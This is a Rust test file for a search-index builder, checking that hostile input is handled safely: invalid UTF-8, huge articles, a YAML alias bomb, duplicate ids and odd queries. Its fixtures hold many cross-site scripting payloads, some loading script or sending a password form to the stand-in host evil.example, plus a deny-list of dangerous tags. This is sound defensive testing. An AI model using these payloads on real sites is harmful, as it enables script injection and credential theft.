//! Bad input at build time: invalid UTF-8, very large articles, hostile HTML in every kind
//! of source, YAML alias bombs, duplicate ids in exports. A failing build names the file
//! (and line) and writes nothing; a succeeding one publishes only inert HTML.

use std::path::Path;

use deflect_core::SearchIndex;
use deflect_index::{build, BuildError, BuildOptions};

fn write(root: &Path, rel: &str, bytes: &[u8]) {
    let path = root.join(rel);
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, bytes).unwrap();
}

fn is_empty(dir: &Path) -> bool {
    !dir.exists() || std::fs::read_dir(dir).unwrap().next().is_none()
}

fn open(out: &Path) -> SearchIndex {
    // The hot part and every piece, as `deflect search` opens a published pack.
    deflect_index::open_published(out).unwrap()
}

/// Every published article page, concatenated.
fn published_html(out: &Path) -> String {
    let mut all = String::new();
    for entry in std::fs::read_dir(out.join("articles")).unwrap() {
        all.push_str(&std::fs::read_to_string(entry.unwrap().path()).unwrap());
        all.push('\n');
    }
    all
}

/// Nothing in `html` can run script, load a frame or restyle the host page. Only markup
/// can: text is escaped (`&lt;`), so every literal `<…>` is a tag, and the tags are what is
/// checked (a payload left behind as visible text is harmless).
fn assert_inert(html: &str) {
    let lower: String = html
        .to_ascii_lowercase()
        .split('<')
        .skip(1)
        .map(|rest| format!("<{}>\n", rest.split('>').next().unwrap_or_default()))
        .collect();
    for needle in [
        "<script",
        "<iframe",
        "<object",
        "<embed",
        "<svg",
        "<math",
        "<style",
        "<form",
        "<input",
        "<link",
        "<meta",
        "<base",
        "style=",
        "javascript:",
        "vbscript:",
        "data:",
        "onerror",
        "onload",
        "onclick",
        "onmouseover",
        "srcdoc",
        "formaction",
    ] {
        assert!(
            !lower.contains(needle),
            "published HTML holds {needle:?}:\n{html}"
        );
    }
    // Every URL left is http(s), mailto or relative. (`jav&#x09;ascript:` survives as
    // `href="jav%09ascript:…"`: `%` cannot occur in a scheme, so browsers resolve it as a
    // relative path, not as script.)
    for attr in lower
        .split(" href=\"")
        .skip(1)
        .chain(lower.split(" src=\"").skip(1))
    {
        let url = attr.split('"').next().unwrap_or_default();
        let scheme = url.split_once(':').map(|(s, _)| s).filter(|s| {
            s.starts_with(|c: char| c.is_ascii_alphabetic())
                && s.chars()
                    .all(|c| c.is_ascii_alphanumeric() || "+-.".contains(c))
        });
        assert!(
            matches!(scheme, None | Some("http" | "https" | "mailto")),
            "published HTML links to {url:?}:\n{html}"
        );
    }
}

const HOSTILE_MARKDOWN: &str = r#"---
title: "<script>pwned()</script> Hostile"
summary: "<img src=x onerror=pwned()>"
---
Intro <script>pwned()</script> and <SCRIPT SRC=//evil.example/x.js></SCRIPT>.

<img src=x onerror="pwned()"> <img src="x" ONLOAD=pwned()>
<p onclick="pwned()" style="position:fixed;inset:0">cover</p>

[link](javascript:pwned()) [enc](jav&#x09;ascript:pwned()) [data](data:text/html,<script>pwned()</script>)
[vb](vbscript:pwned()) <a href=" javascript:pwned()">spaced</a>

<svg onload="pwned()"><script>pwned()</script><a xlink:href="javascript:pwned()">s</a></svg>
<math><mtext><table><mglyph><style><img src=x onerror=pwned()></style></mglyph></table></mtext></math>

<style>body { display: none } @import url(//evil.example/x.css);</style>
<iframe srcdoc="<script>pwned()</script>"></iframe><object data="x.swf"></object><embed src="x">
<form action="https://evil.example"><input name=password><button formaction="javascript:pwned()">Go</button></form>
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=javascript:pwned()">
<link rel=stylesheet href="//evil.example/x.css">
"#;

const HOSTILE_PAGE: &str = r#"<!doctype html><html><head><title>Hostile page</title>
<meta http-equiv="refresh" content="0;url=javascript:pwned()"></head>
<body onload="pwned()"><main><h1>Hostile page</h1>
<p>Text <img src=x onerror=pwned()> <a href="javascript:pwned()">x</a></p>
<svg><animate onbegin="pwned()" attributeName=x dur=1s></svg>
<script>pwned()</script><style>*{color:red}</style></main></body></html>"#;

#[test]
fn hostile_html_in_markdown_and_html_pages_is_sanitized_at_build() {
    let src = tempfile::tempdir().unwrap();
    let out = tempfile::tempdir().unwrap();
    write(src.path(), "hostile.md", HOSTILE_MARKDOWN.as_bytes());
    write(src.path(), "page.html", HOSTILE_PAGE.as_bytes());
    build(src.path(), out.path(), &BuildOptions::default()).unwrap();
    let html = published_html(out.path());
    assert_inert(&html);
    // The harmless parts survive.
    assert!(html.contains("cover"), "{html}");
    assert!(html.contains("Intro"), "{html}");
    // A title is data: stored as written, for the widget to render as a text node.
    let index = open(out.path());
    let titles: Vec<String> = index
        .search("hostile", 5)
        .unwrap()
        .into_iter()
        .map(|h| h.article.title)
        .collect();
    assert!(
        titles.contains(&"<script>pwned()</script> Hostile".to_string()),
        "{titles:?}"
    );
}

#[test]
fn hostile_html_in_a_help_centre_export_is_sanitized_at_build() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("out");
    let records = [
        serde_json::json!({"id": 1, "title": "Hostile export", "body": HOSTILE_MARKDOWN.split("---\n").nth(2).unwrap()}),
        serde_json::json!({"id": 2, "title": "Page", "body": HOSTILE_PAGE}),
    ];
    let text: String = records.iter().map(|r| format!("{r}\n")).collect();
    write(dir.path(), "export.jsonl", text.as_bytes());
    build(
        &dir.path().join("export.jsonl"),
        &out,
        &BuildOptions::default(),
    )
    .unwrap();
    assert_inert(&published_html(&out));
}

#[test]
fn invalid_utf8_names_the_file_and_line_and_writes_nothing() {
    let src = tempfile::tempdir().unwrap();
    let out = tempfile::tempdir().unwrap();
    write(src.path(), "ok.md", b"---\ntitle: Fine\n---\nBody\n");
    write(src.path(), "latin1.md", b"---\ntitle: Caf\xe9\n---\nBody\n");
    let err = build(src.path(), out.path(), &BuildOptions::default()).unwrap_err();
    let text = err.to_string();
    assert!(
        matches!(err, BuildError::InvalidSources(ref e) if e.len() == 1),
        "{text}"
    );
    assert!(text.contains("latin1.md:2: is not valid UTF-8"), "{text}");
    assert!(is_empty(out.path()), "nothing is written");

    // The same in an export file: an error naming the file, nothing written.
    let export = src.path().join("export.jsonl");
    std::fs::write(&export, b"{\"id\": 1, \"title\": \"Caf\xe9\"}\n").unwrap();
    let err = build(&export, out.path(), &BuildOptions::default()).unwrap_err();
    assert!(err.to_string().contains("export.jsonl"), "{err}");
    assert!(is_empty(out.path()));
}

#[test]
fn a_ten_megabyte_article_builds_and_is_found() {
    let src = tempfile::tempdir().unwrap();
    let out = tempfile::tempdir().unwrap();
    let mut body = String::with_capacity(10 * 1024 * 1024 + 200_000);
    let mut i = 0u64;
    while body.len() < 10 * 1024 * 1024 {
        // Varied words, so the term dictionary grows too.
        body.push_str(&format!("word{} ", i % 50_000));
        if i % 20 == 19 {
            body.push_str("\n\n");
        }
        i += 1;
    }
    // One token far over tantivy's term length limit, and the word we look for.
    body.push_str(&"x".repeat(100_000));
    body.push_str(" zebracrossing\n");
    write(
        src.path(),
        "huge.md",
        format!("---\ntitle: Huge article\n---\n{body}").as_bytes(),
    );
    write(src.path(), "small.md", b"---\ntitle: Small\n---\nTiny.\n");
    let report = build(src.path(), out.path(), &BuildOptions::default()).unwrap();
    assert_eq!(report.manifest.articles, 2);
    let index = open(out.path());
    let hits = index.search("zebracrossing", 5).unwrap();
    assert_eq!(hits.len(), 1);
    assert_eq!(hits[0].article.title, "Huge article");
    // The stored excerpt stays small whatever the body.
    assert!(
        hits[0].article.excerpt.len() < 2_000,
        "{}",
        hits[0].article.excerpt.len()
    );
}

#[test]
fn a_yaml_alias_bomb_in_front_matter_is_an_error_not_a_hang() {
    let src = tempfile::tempdir().unwrap();
    let out = tempfile::tempdir().unwrap();
    // "Billion laughs": 9 levels of 9 aliases expand to 9^9 strings.
    let mut yaml = String::from("---\ntitle: Bomb\na0: &a0 [\"lol\"]\n");
    for level in 1..=9 {
        let prev = format!("*a{}", level - 1);
        let list = vec![prev; 9].join(", ");
        yaml.push_str(&format!("a{level}: &a{level} [{list}]\n"));
    }
    yaml.push_str("---\nBody\n");
    write(src.path(), "bomb.md", yaml.as_bytes());
    let err = build(src.path(), out.path(), &BuildOptions::default()).unwrap_err();
    let text = err.to_string();
    assert!(text.contains("bomb.md"), "{text}");
    assert!(text.contains("invalid front matter"), "{text}");
    assert!(is_empty(out.path()));
}

#[test]
fn duplicate_ids_in_an_export_name_both_records_and_write_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("out");
    write(
        dir.path(),
        "e.jsonl",
        b"{\"id\": 7, \"title\": \"A\"}\n{\"id\": \"8\", \"title\": \"B\"}\n{\"id\": \"7\", \"title\": \"C\"}\n",
    );
    let err = build(&dir.path().join("e.jsonl"), &out, &BuildOptions::default()).unwrap_err();
    let text = err.to_string();
    assert!(
        text.contains("duplicate article id `7` (records 1 and 3)"),
        "{text}"
    );
    assert!(is_empty(&out));
}

#[test]
fn hostile_queries_search_without_panicking() {
    let src = tempfile::tempdir().unwrap();
    let out = tempfile::tempdir().unwrap();
    write(
        src.path(),
        "reset.md",
        b"---\ntitle: Reset your password\n---\nUse the reset link.\n",
    );
    write(
        src.path(),
        "rtl.md",
        "---\ntitle: \u{5e9}\u{5dc}\u{5d5}\u{5dd} password help\n---\n\u{645}\u{631}\u{62d}\u{628}\u{627}\n"
            .as_bytes(),
    );
    build(src.path(), out.path(), &BuildOptions::default()).unwrap();
    let index = open(out.path());
    let megabyte = "reset password ".repeat(70_000);
    let queries = [
        megabyte.as_str(),
        "\u{0}\u{7}\u{1b}[2J reset",
        "\u{202e}drowssap\u{202c} reset",
        "\u{2067}\u{5e9}\u{5dc}\u{5d5}\u{5dd}\u{2069}",
        "\u{301}\u{301}\u{301}",
        "<img src=x onerror=alert(1)> reset",
        "🔑🔑 reset 密码",
        "\u{feff}\u{200b}\u{200d}",
        "\u{fffd}\u{fffd}",
    ];
    for q in queries {
        let hits = index.search(q, 10).unwrap();
        for hit in &hits {
            assert!(hit.score.is_finite(), "{q:?}");
        }
    }
    // The control characters and markup around a real word do not hide it.
    let hits = index.search("\u{0}\u{7}\u{1b}[2J reset", 10).unwrap();
    assert_eq!(hits[0].article.title, "Reset your password");
    let hits = index.search(&megabyte, 10).unwrap();
    assert_eq!(hits[0].article.title, "Reset your password");
}
